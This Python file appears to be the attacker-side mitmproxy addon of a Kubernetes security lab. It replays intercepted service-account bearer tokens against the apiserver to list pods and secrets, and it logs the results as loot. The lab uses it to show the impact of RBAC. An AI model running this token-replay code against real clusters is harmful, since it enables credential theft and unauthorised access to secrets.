"""Replaying a stolen bearer token from the attacker container: part of the attacker's mitmproxy addon
(lab/attacker/addon.py), scenario 5.

When a request to the apiserver carries a service-account token (the victim did not verify, so
mitmproxy read it), the attacker at once uses it itself, from the router's own address, against the
real apiserver: the paths of :func:`lab.attacker.decode.replay_paths` (its namespace's pods and
secrets, another namespace's pods). Each answer goes to stdout and to the loot (``replay``, with the
token's fingerprint), so the scenario shows what RBAC let the thief do: a RoleBinding that lets the
service account list pods gives the attacker exactly that, and 403 for the rest.

A thread per token, once per token; http.client with an unverified context (the attacker does not
care whom it talks to), timeouts so nothing hangs.
"""

from __future__ import annotations

import http.client
import os
import ssl
import threading

from lab.attacker import decode, loot

LOOT = loot.DEFAULT
APISERVER = (os.environ.get("LAB_APISERVER_IP", "10.221.1.10"), int(os.environ.get("LAB_APISERVER_PORT", "443")))


def say(text: str) -> None:
    print(f"[attacker] {text}", flush=True)


def get(path: str, token: str) -> tuple[int, bytes]:
    ctx = ssl.create_default_context()
    ctx.check_hostname, ctx.verify_mode = False, ssl.CERT_NONE
    conn = http.client.HTTPSConnection(*APISERVER, context=ctx, timeout=10)
    try:
        conn.request("GET", path, headers={"Authorization": f"Bearer {token}", "Accept": "application/json"})
        response = conn.getresponse()
        return response.status, response.read()
    finally:
        conn.close()


def replay(token: str) -> None:
    mark = decode.fingerprint(token)
    for path in decode.replay_paths(token):
        try:
            status, body = get(path, token)
            words = decode.list_summary(status, body)
        except (OSError, http.client.HTTPException) as e:
            status, words = 0, f"failed: {e}"
        say(f"REPLAY of token {mark} from my own address: GET {path} -> {words}")
        loot.record(LOOT, "replay", token=mark, path=path, status=status, result=words)


class Replay:
    def __init__(self) -> None:
        self.seen: set[str] = set()

    def bearer_token(self, token: str, server: str) -> None:
        """Called by the Loot addon for every token it stole; replays those sent to the apiserver."""
        if server != f"{APISERVER[0]}:{APISERVER[1]}" or token in self.seen or not decode.replay_paths(token):
            return
        self.seen.add(token)
        threading.Thread(target=replay, args=(token,), daemon=True, name=f"replay-{decode.fingerprint(token)}").start()
